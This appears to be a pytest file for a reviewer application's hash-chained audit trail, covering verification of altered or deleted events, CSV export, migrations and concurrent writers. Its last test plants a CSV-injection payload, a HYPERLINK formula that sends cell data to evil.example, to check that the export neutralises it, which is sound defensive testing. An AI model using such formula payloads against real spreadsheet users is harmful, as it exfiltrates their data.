"""The tamper-evident audit trail: every event holds the hash of the one before; `audit verify` finds an
event altered or deleted directly in the database (past the append-only triggers), on SQLite and
PostgreSQL; `audit export` writes the trail out; concurrent pushers never fork a chain."""

from __future__ import annotations

import csv
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy import Connection, Engine, func, select, text
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session

from reviewer_app.access import audit_chain
from reviewer_app.cli import main
from reviewer_app.shared_db.engine import make_engine, upgrade
from reviewer_app.shared_db.models import AuditChainHead, AuditEvent
from reviewer_app.shared_db.models.base import UTCDateTime
from tests import factories
from tests.desk import workstation


@pytest.fixture
def engine(shared_url: str) -> Iterator[Engine]:
    engine = factories.shared_engine(shared_url)
    yield engine
    engine.dispose()


def _events(engine: Engine, facility_id: int, n: int, who: str = "ttd_reviewer") -> list[int]:
    with Session(engine) as s, s.begin():
        events = [
            audit_chain.new_event(
                action="decision",
                staff_username=who,
                workstation="ws-1",
                facility_id=facility_id,
                occurred_at=factories.T0 + timedelta(minutes=k),
                item_kind="post",
                item_id=k,
                detail={"outcome": "approve", "reasons": [], "n": k, "名": "王"},
            )
            for k in range(n)
        ]
        audit_chain.append(s, events)
        return [e.id for e in events]


def _tamper(engine: Engine, statement: str, **params: object) -> None:
    """What someone with full access to the database could do, bypassing the append-only triggers."""
    with engine.begin() as conn:
        if conn.dialect.name == "postgresql":
            conn.execute(text("SET LOCAL session_replication_role = replica"))  # triggers off
            conn.execute(text(statement), params)
        else:
            _without_sqlite_triggers(conn, statement, params)


def _without_sqlite_triggers(conn: Connection, statement: str, params: dict[str, object]) -> None:
    conn.execute(text("DROP TRIGGER audit_events_no_update"))
    conn.execute(text("DROP TRIGGER audit_events_no_delete"))
    conn.execute(text(statement), params)


@pytest.fixture
def facilities(engine: Engine) -> tuple[int, int]:
    with Session(engine) as s, s.begin():
        return factories.facility(s, "TTD").id, factories.facility(s, "TYJ").id


def test_each_facility_has_its_own_unbroken_chain(engine: Engine, facilities: tuple[int, int]) -> None:
    a, b = facilities
    _events(engine, a, 3)
    _events(engine, b, 2, "tyj_reviewer")
    _events(engine, a, 2)
    with Session(engine) as s:
        seqs = s.execute(select(AuditEvent.facility_id, AuditEvent.chain_seq).order_by(AuditEvent.id)).all()
        heads = {h.facility_id: (h.last_seq, h.last_hash) for h in s.scalars(select(AuditChainHead))}
        report = audit_chain.verify(s)
        first = s.scalars(
            select(AuditEvent).where(AuditEvent.chain_seq == 1, AuditEvent.facility_id == a)
        ).one()
        last = s.scalars(
            select(AuditEvent).where(AuditEvent.chain_seq == 5, AuditEvent.facility_id == a)
        ).one()
    assert [seq for fid, seq in seqs if fid == a] == [1, 2, 3, 4, 5]
    assert [seq for fid, seq in seqs if fid == b] == [1, 2]
    assert first.prev_hash is None and heads[a] == (5, last.hash)
    assert report.ok and report.events == 7 and report.chains == 2


def test_a_replayed_push_inserts_nothing_twice(engine: Engine, facilities: tuple[int, int]) -> None:
    a, _ = facilities
    event = audit_chain.new_event(action="x", staff_username="u", workstation="w", facility_id=a)
    copy = AuditEvent(
        **{
            c: getattr(event, c)
            for c in (
                "event_key",
                "facility_id",
                "occurred_at",
                "staff_username",
                "workstation",
                "action",
                "detail",
            )
        }
    )
    with Session(engine) as s, s.begin():
        assert audit_chain.append(s, [event]) == 1
    with Session(engine) as s, s.begin():
        assert audit_chain.append(s, [copy]) == 0
    with Session(engine) as s:
        assert s.scalar(select(func.count()).select_from(AuditEvent)) == 1


def test_the_database_refuses_update_and_delete_of_audit_events(
    engine: Engine, facilities: tuple[int, int]
) -> None:
    _events(engine, facilities[0], 1)
    for statement in ("UPDATE audit_events SET action = 'x'", "DELETE FROM audit_events"):
        with pytest.raises(DBAPIError, match="append-only"), engine.begin() as conn:
            conn.execute(text(statement))


def test_verify_catches_an_event_altered_in_the_database(
    engine: Engine, facilities: tuple[int, int], shared_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = _events(engine, facilities[0], 4)
    assert main(["--database-url", shared_url, "audit", "verify"]) == 0
    assert "稽核鏈完整：4 筆事件" in capsys.readouterr().out

    _tamper(engine, "UPDATE audit_events SET staff_username = 'someone_else' WHERE id = :i", i=ids[2])

    with Session(engine) as s:
        report = audit_chain.verify(s)
    assert report.first_break is not None
    assert (report.first_break.kind, report.first_break.event_id, report.first_break.seq) == (
        "altered",
        ids[2],
        3,
    )
    assert main(["--database-url", shared_url, "audit", "verify"]) == 1
    out = capsys.readouterr().out
    assert "稽核鏈斷裂" in out and f"#{ids[2]}" in out and "被修改" in out


def test_verify_catches_a_rewritten_link(engine: Engine, facilities: tuple[int, int]) -> None:
    """Someone alters an event and recomputes its own hash: the next event's link gives it away."""
    ids = _events(engine, facilities[0], 3)
    with Session(engine) as s:
        e = s.get(AuditEvent, ids[1])
        assert e is not None
        e.detail = {"outcome": "reject"}
        forged = audit_chain.hash_of(e)
        s.rollback()
    _tamper(
        engine,
        "UPDATE audit_events SET detail = :d, hash = :h WHERE id = :i",
        d='{"outcome": "reject"}',
        h=forged,
        i=ids[1],
    )
    with Session(engine) as s:
        broken = audit_chain.verify(s).first_break
    assert broken is not None and (broken.kind, broken.event_id) == ("link", ids[2])


def test_verify_catches_a_deleted_event(
    engine: Engine, facilities: tuple[int, int], shared_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = _events(engine, facilities[0], 4)
    _tamper(engine, "DELETE FROM audit_events WHERE id = :i", i=ids[1])
    with Session(engine) as s:
        broken = audit_chain.verify(s).first_break
    assert broken is not None and (broken.kind, broken.seq, broken.event_id) == ("missing", 2, ids[2])
    assert main(["--database-url", shared_url, "audit", "verify"]) == 1
    assert "遺失" in capsys.readouterr().out


def test_verify_catches_the_last_event_deleted(engine: Engine, facilities: tuple[int, int]) -> None:
    ids = _events(engine, facilities[0], 3)
    _tamper(engine, "DELETE FROM audit_events WHERE id = :i", i=ids[-1])
    with Session(engine) as s:
        broken = audit_chain.verify(s).first_break
    assert broken is not None and (broken.kind, broken.seq) == ("missing", 3)
    assert "尾端" in broken.message


def test_export_writes_every_event_with_its_hashes(
    engine: Engine, facilities: tuple[int, int], shared_url: str, tmp_path: Path
) -> None:
    _events(engine, facilities[0], 3)
    out = tmp_path / "audit.csv"
    assert main(["--database-url", shared_url, "audit", "export", "-o", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["chain_seq"] for r in rows] == ["1", "2", "3"]
    assert rows[1]["prev_hash"] == rows[0]["hash"] and len(rows[2]["hash"]) == 64
    assert '"名": "王"' in rows[0]["detail"]


def test_export_to_a_folder_or_a_missing_folder_is_one_line(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    engine = factories.shared_engine(sqlite_url)
    with Session(engine) as s, s.begin():
        facility = factories.facility(s, "TTD").id
    _events(engine, facility, 2)
    engine.dispose()
    missing = tmp_path / "missing"
    for target, named in ((tmp_path, tmp_path), (missing / "a.csv", missing), (Path("/proc/a.csv"),) * 2):
        assert main(["--database-url", sqlite_url, "audit", "export", "-o", str(target)]) == 2
        err = capsys.readouterr().err
        assert err.startswith("reviewer-app: ") and str(named) in err and err.count("\n") == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["shared.sqlite3"]


@pytest.mark.parametrize(
    ("tampered", "kind"),
    [
        ("detail = 'not json'", "unreadable"),
        ("detail = X'ff'", "unreadable"),
        ("occurred_at = 'garbage'", "unreadable"),
        ("""detail = '{"n": NaN}'""", "altered"),  # loads, but cannot be hashed
    ],
    ids=["detail-not-json", "detail-not-utf8", "occurred-at-garbage", "detail-nan"],
)
def test_an_event_that_cannot_be_read_is_a_broken_chain(
    tampered: str, kind: str, sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    engine = factories.shared_engine(sqlite_url)
    with Session(engine) as s, s.begin():
        facility = factories.facility(s, "TTD").id
    ids = _events(engine, facility, 4)
    _tamper(engine, f"UPDATE audit_events SET {tampered} WHERE id = :i", i=ids[2])

    with Session(engine) as s:
        broken = audit_chain.verify(s).first_break
    engine.dispose()
    assert broken is not None and (broken.kind, broken.event_id, broken.seq) == (kind, ids[2], 3)
    assert main(["--database-url", sqlite_url, "audit", "verify"]) == 1
    out = capsys.readouterr().out
    assert "稽核鏈斷裂" in out and f"#{ids[2]}" in out

    if kind != "unreadable":
        return  # it loads, so it exports (with its hashes, for whoever checks the file)
    kept = tmp_path / "audit.csv"
    kept.write_text("an earlier export\n", encoding="utf-8")
    assert main(["--database-url", sqlite_url, "audit", "export", "-o", str(kept)]) == 1
    assert "稽核鏈斷裂" in capsys.readouterr().out
    assert kept.read_text(encoding="utf-8") == "an earlier export\n"  # not half overwritten
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit.csv", "shared.sqlite3"]


def test_pushed_decisions_are_chained(
    engine: Engine, facilities: tuple[int, int], shared_url: str, tmp_path: Path
) -> None:
    a, _ = facilities
    with Session(engine) as s, s.begin():
        fac = s.get(factories.Facility, a)
        assert fac is not None
        post = factories.post(s, factories.family(s, fac)).id
    desk = workstation(shared_url, tmp_path, "ws-a", "ttd_reviewer", a)
    try:
        desk.sync.pull()
        record = desk.decide("post", post, "approve")
        desk.journal.undo(record.key, desk.username, desk.name, desk.clock())
        desk.decide("post", post, "approve")
        assert desk.sync.push().audit_events == 3
    finally:
        desk.close()
    with Session(engine) as s:
        actions = s.scalars(select(AuditEvent.action).order_by(AuditEvent.chain_seq)).all()
        assert audit_chain.verify(s).ok
    assert actions == ["decision", "undo", "decision"]


def test_events_written_before_the_chain_existed_are_chained_by_the_migration(shared_url: str) -> None:
    engine = make_engine(shared_url)
    upgrade(engine, "0002")
    with engine.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO facilities (code, name, post_window_days, body_max_chars, max_photos, "
                "photo_max_bytes, max_attachments, attachments_max_total_bytes, strike_threshold, "
                "suspension_months, child_max_age, claim_lease_minutes, review_target_hours) "
                "VALUES ('TTD', 'x', 30, 100, 1, 10485760, 3, 20971520, 3, 1, 18, 20, 72)"
            )
        )
        old_events = sa.table(
            "audit_events",
            *(sa.column(c) for c in ("event_key", "facility_id", "staff_username", "workstation", "action")),
            sa.column("occurred_at", UTCDateTime()),
            sa.column("detail", sa.JSON()),
        )
        for n, facility in enumerate((1, None, 1)):
            conn.execute(
                old_events.insert().values(
                    event_key=f"old-{n}",
                    facility_id=facility,
                    occurred_at=factories.T0 + timedelta(hours=n),
                    staff_username="old",
                    workstation="ws",
                    action="decision",
                    detail={"n": n},
                )
            )
    upgrade(engine)
    with Session(engine) as s:
        rows = s.execute(select(AuditEvent.event_key, AuditEvent.chain_seq).order_by(AuditEvent.id)).all()
        report = audit_chain.verify(s)
    assert rows == [("old-0", 1), ("old-1", 1), ("old-2", 2)]
    assert report.ok and report.chains == 2
    engine.dispose()


@pytest.mark.postgres
def test_concurrent_pushers_never_fork_a_chain(pg_url: str) -> None:
    engine = factories.shared_engine(pg_url)
    with Session(engine) as s, s.begin():
        fid = factories.facility(s).id
    writers, per_writer = 6, 15
    start = threading.Barrier(writers)
    errors: list[BaseException] = []

    def write(n: int) -> None:
        try:
            start.wait()
            for k in range(per_writer):
                with Session(engine) as s, s.begin():
                    audit_chain.append(
                        s,
                        [
                            audit_chain.new_event(
                                action="decision",
                                staff_username=f"u{n}",
                                workstation=f"ws{n}",
                                facility_id=fid,
                                detail={"k": k},
                            )
                        ],
                    )
        except BaseException as exc:  # reported below
            errors.append(exc)

    threads = [threading.Thread(target=write, args=(n,)) for n in range(writers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not errors, errors
    with Session(engine) as s:
        seqs = sorted(s.scalars(select(AuditEvent.chain_seq)))
        report = audit_chain.verify(s)
    assert seqs == list(range(1, writers * per_writer + 1))
    assert report.ok
    engine.dispose()


def test_revision_0003_downgrades_and_upgrades_again(shared_url: str) -> None:
    from alembic import command

    from reviewer_app.shared_db.engine import alembic_config, current_revision

    engine = factories.shared_engine(shared_url)
    with Session(engine) as s, s.begin():
        fid = factories.facility(s).id
    _events(engine, fid, 2)
    command.downgrade(alembic_config(engine), "0002")
    assert current_revision(engine) == "0002"
    with engine.begin() as conn:  # no trigger left in the way, no chain columns
        conn.execute(text("UPDATE audit_events SET action = 'x'"))
        assert "hash" not in {c["name"] for c in sa.inspect(conn).get_columns("audit_events")}
    upgrade(engine)
    with Session(engine) as s:
        assert audit_chain.verify(s).ok  # re-chained by the upgrade
        assert set(s.scalars(select(AuditEvent.action))) == {"x"}
    engine.dispose()


def test_export_is_formula_safe_and_user_only(
    engine: Engine, facilities: tuple[int, int], shared_url: str, tmp_path: Path
) -> None:
    """#19: a staff name or workstation written like a formula must stay text when the agency opens the
    trail in Excel (OWASP CSV injection), and the file (names, decisions) is the user's alone."""
    import os
    import stat

    hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"看這裡")'
    _events(engine, facilities[0], 1, who=hyperlink)
    _events(engine, facilities[0], 1, who="\t+cmd")
    out = tmp_path / "audit.csv"
    old = os.umask(0o022)
    try:
        assert main(["--database-url", shared_url, "audit", "export", "-o", str(out)]) == 0
    finally:
        os.umask(old)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["staff_username"] for r in rows] == ["'" + hyperlink, "'\t+cmd"]
    assert [v for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    if os.name == "posix":
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
